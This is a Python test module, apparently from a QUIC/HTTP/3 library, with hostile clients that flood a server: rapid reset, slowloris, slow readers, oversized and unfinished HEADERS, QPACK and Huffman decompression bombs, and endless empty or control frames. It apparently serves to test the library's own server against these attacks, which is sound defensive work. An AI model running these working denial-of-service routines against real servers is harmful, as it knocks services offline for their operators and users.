"""Attacks by a client that speaks HTTP/3, up to a point."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count
from typing import Final

from pylsqpack import Encoder

from quicbaton.transport.frames import encode_varint as varint
from tests.clients.hostile.raw import PAYLOAD_BYTES, RawClient, stream_frame

_DATA: Final = 0x00
_HEADERS: Final = 0x01
_SETTINGS: Final = 0x04
_GOAWAY: Final = 0x07
_MAX_PUSH_ID: Final = 0x0D
_PRIORITY_UPDATE: Final = 0xF0700
_UNKNOWN: Final = 0x21
_CONTROL_STREAM: Final = 2
_ENCODER_STREAM: Final = 6
_H3_REQUEST_CANCELLED: Final = 0x10C

#: What `GET` asks for; the server has it.
SMALL_PATH: Final = b"/small"
LARGE_PATH: Final = b"/large"


def frame(kind: int, payload: bytes = b"", length: int | None = None) -> bytes:
    """An HTTP/3 frame (RFC 9114 §7.1), with a length that is none if it is given."""
    return varint(kind) + varint(len(payload) if length is None else length) + payload


def field_section(*fields: tuple[bytes, bytes]) -> bytes:
    """Fields, encoded without a dynamic table."""
    return bytes(Encoder().encode(0, list(fields))[1])


def request(path: bytes = SMALL_PATH, *more: tuple[bytes, bytes], method: bytes = b"GET") -> bytes:
    """A request's HEADERS frame."""
    pseudo = ((b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"))
    return frame(_HEADERS, field_section(*pseudo, (b":path", path), *more))


def open_control(client: RawClient) -> int:
    """Send SETTINGS; the control stream's offset behind them."""
    data = b"\x00" + frame(_SETTINGS)
    client.send(stream_frame(_CONTROL_STREAM, 0, data))
    return len(data)


def requests(client: RawClient) -> Iterator[int]:
    """IDs of new requests, each as soon as there is credit for it."""
    for index in count():
        while index >= client.stream_limits[0]:
            client.flush()
            if index >= client.stream_limits[0]:
                client.listen(0.01)
        yield 4 * index


# --- requests that are not meant ----------------------------------------------------------------


def rapid_reset(client: RawClient) -> None:
    """Requests that are given up in the same packet (CVE-2023-44487)."""
    open_control(client)
    get = request()
    ids = requests(client)
    while True:
        client.send_filled(lambda: _cancelled(next(ids), get))


def _cancelled(stream_id: int, data: bytes) -> bytes:
    reset = (0x04, stream_id, _H3_REQUEST_CANCELLED, len(data))
    stop = (0x05, stream_id, _H3_REQUEST_CANCELLED)
    return stream_frame(stream_id, 0, data) + b"".join(map(varint, reset + stop))


def stopped_requests(client: RawClient) -> None:
    """Whole requests whose answers are not wanted: STOP_SENDING in the same packet."""
    open_control(client)
    get = request(LARGE_PATH)
    ids = requests(client)

    def one() -> bytes:
        stream_id = next(ids)
        stop = b"".join(map(varint, (0x05, stream_id, _H3_REQUEST_CANCELLED)))
        return stream_frame(stream_id, 0, get, fin=True) + stop

    while True:
        client.send_filled(one)


def made_you_reset(client: RawClient) -> None:
    """Malformed requests, which the server itself resets (CVE-2025-8671 in HTTP/2)."""
    open_control(client)
    bad = frame(_HEADERS, field_section((b":method", b"GET")))
    ids = requests(client)
    while True:
        client.send_filled(lambda: stream_frame(next(ids), 0, bad, fin=True))


def request_flood(client: RawClient) -> None:
    """Small requests, and every answer acknowledged."""
    open_control(client)
    get = request()
    ids = requests(client)
    while True:
        client.send_filled(lambda: stream_frame(next(ids), 0, get, fin=True))


def slow_requests(client: RawClient) -> None:
    """A hundred requests that come byte by byte, and never end (slowloris)."""
    open_control(client)
    begun = frame(_HEADERS, b"", 1000)
    ids = [4 * index for index in range(min(100, client.stream_limits[0]))]
    for stream_id in ids:
        client.send(stream_frame(stream_id, 0, begun))
    for offset in count(len(begun)):
        for stream_id in ids:
            client.send(stream_frame(stream_id, offset, b"\0"))
        client.flush()
        client.listen(0.05)


def slow_reader(client: RawClient) -> None:
    """A hundred large downloads, of which nothing is ever acknowledged."""
    client.acknowledges = False
    open_control(client)
    get = request(LARGE_PATH)
    for stream_id in (4 * index for index in range(min(100, client.stream_limits[0]))):
        client.send(stream_frame(stream_id, 0, get, fin=True))
    while True:
        client.send(b"\x01")
        client.flush()
        client.listen(0.05)


# --- field sections -----------------------------------------------------------------------------


def endless_headers(client: RawClient) -> None:
    """HEADERS of 16 MB that come and come (CVE-2024-27316 and others of HTTP/2's CONTINUATION)."""
    open_control(client)
    head = frame(_HEADERS, b"", 16 << 20)
    client.send(stream_frame(0, 0, head))
    offset = len(head)
    while True:
        client.send(stream_frame(0, offset, bytes(PAYLOAD_BYTES - 20)))
        offset += PAYLOAD_BYTES - 20


def unfinished_headers(client: RawClient) -> None:
    """HEADERS of 60,000 bytes on every stream, each but for the last byte."""
    open_control(client)
    size = 60_000
    head = frame(_HEADERS, b"", size)
    for stream_id in requests(client):
        client.send(stream_frame(stream_id, 0, head))
        for at in range(0, size - 1, PAYLOAD_BYTES - 20):
            piece = bytes(min(PAYLOAD_BYTES - 20, size - 1 - at))
            client.send(stream_frame(stream_id, len(head) + at, piece))


def many_fields(client: RawClient) -> None:
    """Sections of a thousand fields of one byte each: `accept: */*` of the static table."""
    _sections(client, b"\0\0" + b"\xdd" * 1000)


def qpack_bomb(client: RawClient) -> None:
    """Sections that decode to twenty times their size: the static table's longest entry."""
    _sections(client, b"\0\0" + b"\xff\x16" * 2000)  # content-security-policy, index 85


def huffman_bomb(client: RawClient) -> None:
    """Sections of Huffman codes, which cost more to decode than to send (CVE-2023-45288)."""
    value = b"\0" * 2000  # five bits a character: '0'
    _sections(client, field_section((b":method", b"GET")) + b"\x27\x00\x61" + _huffman(value))


def _huffman(data: bytes) -> bytes:
    size = len(data)
    prefix = b"\xff" + _integer(size - 127)
    return prefix + data


def _integer(value: int) -> bytes:
    """The rest of a QPACK integer (RFC 7541 §5.1)."""
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(out) + bytes((value,))


def _sections(client: RawClient, section: bytes) -> None:
    open_control(client)
    data = frame(_HEADERS, section)
    for stream_id in requests(client):
        for at in range(0, len(data), PAYLOAD_BYTES - 20):
            piece = data[at : at + PAYLOAD_BYTES - 20]
            client.send(stream_frame(stream_id, at, piece, fin=at + len(piece) == len(data)))


def dynamic_table(client: RawClient) -> None:
    """Insertions into a QPACK dynamic table that the server does not offer (RFC 9204 §4.3)."""
    open_control(client)
    inserted = b"\x3f\xe1\x1f" + b"\x41a\x01b" * 200
    client.send(stream_frame(_ENCODER_STREAM, 0, b"\x02" + inserted))
    while True:
        client.send(b"\x01")
        client.flush()
        client.listen(0.01)


# --- frames that say nothing --------------------------------------------------------------------


def empty_frames(client: RawClient) -> None:
    """DATA frames without a byte (CVE-2019-9518)."""
    _repeat_on_request(client, frame(_DATA))


def unknown_frames(client: RawClient) -> None:
    """Frames of types that nobody knows, without a byte."""
    _repeat_on_request(client, frame(_UNKNOWN))


def _repeat_on_request(client: RawClient, one: bytes) -> None:
    open_control(client)
    head = request(method=b"POST")
    client.send(stream_frame(0, 0, head))
    piece = one * ((PAYLOAD_BYTES - 20) // len(one))
    offset = len(head)
    while True:
        client.send(stream_frame(0, offset, piece))
        offset += len(piece)


def priority_updates(client: RawClient) -> None:
    """PRIORITY_UPDATE without end, for requests that never come."""
    numbers = count()
    _control_frames(client, lambda: frame(_PRIORITY_UPDATE, varint(next(numbers) * 4) + b"u=1"))


def push_limits(client: RawClient) -> None:
    """MAX_PUSH_ID without end, each higher than the last."""
    numbers = count(1)
    _control_frames(client, lambda: frame(_MAX_PUSH_ID, varint(next(numbers))))


def goaways(client: RawClient) -> None:
    """GOAWAY without end, each lower than the last."""
    numbers = count((1 << 50) - 1, -1)
    _control_frames(client, lambda: frame(_GOAWAY, varint(next(numbers))))


def control_frames(client: RawClient) -> None:
    """Unknown frames on the control stream, without end."""
    _control_frames(client, lambda: frame(_UNKNOWN))


def _control_frames(client: RawClient, make: object) -> None:
    assert callable(make)
    offset = open_control(client)
    while True:
        frames, size = [], 0
        while size < PAYLOAD_BYTES - 30:
            one = make()
            frames.append(one)
            size += len(one)
        client.send(stream_frame(_CONTROL_STREAM, offset, b"".join(frames)))
        offset += size
